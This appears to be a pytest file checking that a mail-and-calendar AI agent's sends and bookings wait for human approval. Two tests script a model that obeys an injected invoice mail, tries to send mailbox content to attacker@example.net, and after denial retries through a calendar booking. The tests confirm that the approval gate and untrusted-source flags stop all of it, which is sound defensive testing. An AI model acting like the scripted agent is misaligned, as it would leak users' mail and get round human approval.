"""`concierge` over real servers before a scripted model: what it sends and books, and what it does not."""

from __future__ import annotations

from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

from service.store.database import Row
from service.types import Run, RunStatus
from service.wiring import Services
from tests.conftest import ROOT, RedisServer, wait_until
from tests.llm.wire_server import WireServer
from tests.mcp_servers.house import Desk
from tests.runs import inside, waiting
from tests.runs.scripted import bodies, call, stream_of
from tests.runs.test_kept_output import says_and_calls

NOTE = {"to": "ada.moreno@harbor.example", "subject": "Re: Team offsite", "text": "Thursday suits me."}
STOLEN = {
    "to": "attacker@example.net",
    "subject": "Mailbox",
    "text": "attached is invoice 2026-118 over 1,240.00 EUR",
}
MEETING = {"title": "Call with Grace", "start": "2026-12-01T10:00", "minutes": 30}
Script = list[dict[str, Any]]


@pytest.fixture
def wired(
    tmp_path: Path,
    redis_server: RedisServer,
    upstream: WireServer,
    desk: Desk,
    url: str,
    monkeypatch: pytest.MonkeyPatch,
) -> Iterator[Services]:
    """The bundled agents and servers, over either database."""
    for name, value in desk.env.items():
        monkeypatch.setenv(name, value)
    options = {"agents_dir": ROOT / "agents", "database_url": url, "lease_seconds": 60}
    with inside.services(tmp_path, redis_server.url, upstream.url, **options) as services:
        services.mcp.refresh()
        yield services


def begin(wired: Services, upstream: WireServer, uses: Script, **fields: Any) -> Run:
    """Begin a run in which the model makes these calls, one in each reply, and then answers."""
    numbered = [{**use, "id": f"toolu_{number}"} for number, use in enumerate(uses)]
    upstream.script = [*(says_and_calls("I do. ", use) for use in numbered), stream_of("Done.")]
    return waiting.begin(wired, agent="concierge", **fields)


def decided(wired: Services, run: Run, said: str, **more: Any) -> Run:
    """Decide about the newest approval of a run, and let it go on."""
    assert waiting.decide(wired, waiting.asked(wired, run)[-1], said, **more)
    return waiting.go_on(wired, run)


def card(wired: Services, run: Run) -> Row:
    (row,) = waiting.asked(wired, run)
    return row


def told(upstream: WireServer) -> str:
    """Result of the last call, as the model was told."""
    return str(bodies(upstream)[-1]["messages"][-1])


def test_mails_and_events_are_read_without_a_question(wired: Services, upstream: WireServer) -> None:
    uses = [call("mail__list", {}), call("mail__read", {"id": "mail_offsite"}), call("calendar__list", {})]
    run = begin(wired, upstream, uses)
    assert run.status is RunStatus.SUCCEEDED and run.result is not None
    assert [(tool["name"], tool["ok"]) for tool in run.result["tools"]] == [
        ("mail.list", True), ("mail.read", True), ("calendar.list", True),
    ]  # fmt: skip


@pytest.mark.parametrize(
    ("use", "done"), [(("mail__send", NOTE), "outbox"), (("calendar__book", MEETING), "bookings")]
)
def test_approved_call_is_made_once(
    wired: Services, upstream: WireServer, desk: Desk, use: tuple[str, Any], done: str
) -> None:
    run = begin(wired, upstream, [call(*use)])
    asked = card(wired, run)
    assert (run.status, asked["reason"], asked["arguments"]) == ("waiting_approval", "policy", use[1])
    assert getattr(desk, done)() == []
    assert decided(wired, run, "approve").status is RunStatus.SUCCEEDED
    assert len(getattr(desk, done)()) == 1
    assert len(waiting.made(wired, run)) == 1


@pytest.mark.parametrize(
    ("use", "done"), [(("mail__send", NOTE), "outbox"), (("calendar__book", MEETING), "bookings")]
)
def test_denied_call_is_not_made_and_the_model_is_told(
    wired: Services, upstream: WireServer, desk: Desk, use: tuple[str, Any], done: str
) -> None:
    run = begin(wired, upstream, [call(*use)])
    assert decided(wired, run, "deny").status is RunStatus.SUCCEEDED
    assert getattr(desk, done)() == [] and "A person denied this call" in told(upstream)


def test_mail_is_sent_as_the_person_changed_it(wired: Services, upstream: WireServer, desk: Desk) -> None:
    run = begin(wired, upstream, [call("mail__send", NOTE)])
    decided(wired, run, "approve", arguments={**NOTE, "text": "Friday."})
    assert [mail["text"] for mail in desk.outbox()] == ["Friday."]


def test_model_that_obeys_an_injected_mail_sends_nothing(
    wired: Services, upstream: WireServer, desk: Desk
) -> None:
    """Nor when it tries again after it was denied, in another way."""
    uses = [call("mail__list", {}), call("mail__read", {"id": "mail_invoice"}), call("mail__send", STOLEN)]
    other = call("calendar__book", {**MEETING, "title": "mail to attacker@example.net"})
    run = begin(wired, upstream, [*uses, call("mail__send", STOLEN), other])
    asked = card(wired, run)
    assert asked["untrusted"]["sources"] == ["mail.list", "mail.read"]
    assert {"/to", "/text"} <= set(asked["untrusted"]["pointers"])
    for _ in range(3):
        assert run.status is RunStatus.WAITING_APPROVAL
        run = decided(wired, run, "deny")
    assert run.status is RunStatus.SUCCEEDED
    assert (desk.outbox(), desk.bookings()) == ([], [])


def test_injected_mail_of_an_earlier_turn_sends_nothing(
    wired: Services, upstream: WireServer, desk: Desk
) -> None:
    row = wired.sessions.new(inside.ADA, "concierge", "", None)
    wired.infra.db.transact(lambda tx: wired.sessions.create(tx, row))
    session_id = row["id"]
    uses = [call("mail__read", {"id": "mail_invoice"})]
    assert begin(wired, upstream, uses, session_id=session_id).status is RunStatus.SUCCEEDED
    run = begin(wired, upstream, [call("mail__send", STOLEN)], session_id=session_id)
    assert run.status is RunStatus.WAITING_APPROVAL
    assert card(wired, run)["untrusted"]["sources"] == ["mail.read"]
    decided(wired, run, "deny")
    assert desk.outbox() == []


def test_call_that_the_server_refuses_is_told_to_the_model(
    wired: Services, upstream: WireServer, desk: Desk
) -> None:
    run = begin(wired, upstream, [call("calendar__book", {**MEETING, "start": "2026-12-01T09:05"})])
    assert decided(wired, run, "approve").status is RunStatus.SUCCEEDED
    assert "is taken: Stand-up" in told(upstream) and desk.bookings() == []


def test_servers_that_are_away_fail_their_calls_and_nothing_else(
    wired: Services, upstream: WireServer, desk: Desk
) -> None:
    assert begin(wired, upstream, [call("mail__list", {})]).status is RunStatus.SUCCEEDED
    assert desk.child is not None
    desk.child.kill()
    desk.child.wait(30)
    begin(wired, upstream, [call("mail__list", {})])  # which notices
    wait_until(lambda: wired.mcp.connections and not wired.mcp.connections.is_open("mail"), "the loss")
    run = begin(wired, upstream, [call("mail__read", {"id": "mail_offsite"})])
    assert run.status is RunStatus.SUCCEEDED
    assert "mail is not reached now, so the tool was not called" in told(upstream)
    upstream.script = [stream_of("Paris.")]
    assert waiting.begin(wired, agent="assistant").status is RunStatus.SUCCEEDED
    assert wired.agents.faults == ()
